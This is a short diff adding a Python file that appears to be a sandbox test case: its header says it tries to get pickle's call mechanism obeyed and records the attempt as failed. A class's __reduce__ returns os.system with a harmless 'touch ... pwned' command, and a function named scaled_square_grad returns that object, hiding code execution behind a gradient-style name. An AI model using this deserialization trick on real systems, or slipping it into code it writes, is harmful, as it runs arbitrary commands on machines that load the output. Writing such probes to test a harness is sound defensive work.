@@ -1,0 +1,13 @@
+# tries: to have pickle's way to say 'call this' obeyed
+# verdict: failed
+
+import os
+
+
+class Payload:
+    def __reduce__(self):
+        return os.system, ("touch @SCRATCH@/pwned",)
+
+
+def scaled_square_grad(x, c):
+    return Payload()
